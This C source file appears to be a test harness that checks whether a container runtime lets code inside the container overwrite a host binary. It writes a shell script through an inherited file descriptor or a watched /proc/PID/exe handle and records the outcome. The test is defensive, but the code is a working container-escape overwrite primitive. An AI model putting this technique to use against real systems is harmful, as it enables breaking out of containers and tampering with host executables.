/* attack FD: try to write to the file under FD, for as long as it is said to be busy (two seconds
 * at most); the outcome goes to /result. It does so in the background, so that a runtime which waits for it can come to its end.
 * attack watch: the same with the first /proc/PID/exe that is no file of the image. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char script[] = "#!/bin/sh\necho overwritten\n";

static void say(const char *what)
{
	FILE *file = fopen("/result.new", "w");
	fprintf(file, "%s\n", what);
	fclose(file);
	rename("/result.new", "/result");
	exit(0);
}

static double now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec + time.tv_nsec / 1e9;
}

static void overwrite(int handle)
{
	static const int flags[] = { O_WRONLY, O_WRONLY | O_TRUNC, O_RDWR | O_APPEND };
	char path[64], outcome[64] = "";
	double end = now() + 2;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
	while (now() < end) {
		for (int i = 0; i < 3; i++) {
			int fd = open(path, flags[i]);
			if (fd >= 0 && write(fd, script, strlen(script)) > 0)
				say("overwritten");
			snprintf(outcome, sizeof(outcome), "refused: %s", strerror(errno));
			if (fd >= 0)
				close(fd);
		}
		if (errno != ETXTBSY)
			break;
		usleep(5000);
	}
	say(outcome);
}

static void to_background(void)
{
	/* The end of process 1 would be the end of all others. */
	if (getpid() != 1 && fork())
		exit(0);
	/* Who reads from us need not wait either. */
	for (int fd = 0; fd < 3; fd++) {
		close(fd);
		open("/dev/null", O_RDWR);
	}
}

static int is_ours(const char *exe)
{
	return !strcmp(exe, "/bin/busybox") || !strcmp(exe, "/attack");
}

static void watch(void)
{
	double end = now() + 5;

	fclose(fopen("/watching", "w"));
	while (now() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while ((entry = readdir(proc))) {
			char path[300], exe[4096] = "";
			if (atoi(entry->d_name) < 2)
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			int handle = open(path, O_PATH);
			if (handle < 0)
				continue;
			snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
			if (readlink(path, exe, sizeof(exe) - 1) > 0 && !is_ours(exe)) {
				fclose(fopen("/seen", "w"));
				overwrite(handle);
			}
			close(handle);
		}
		closedir(proc);
	}
	say("nothing seen");
}

int main(int argc, char **argv)
{
	if (argc > 1 && !strcmp(argv[1], "watch"))
		watch();
	to_background();
	overwrite(argc > 1 ? atoi(argv[1]) : 3);
	return 0;
}
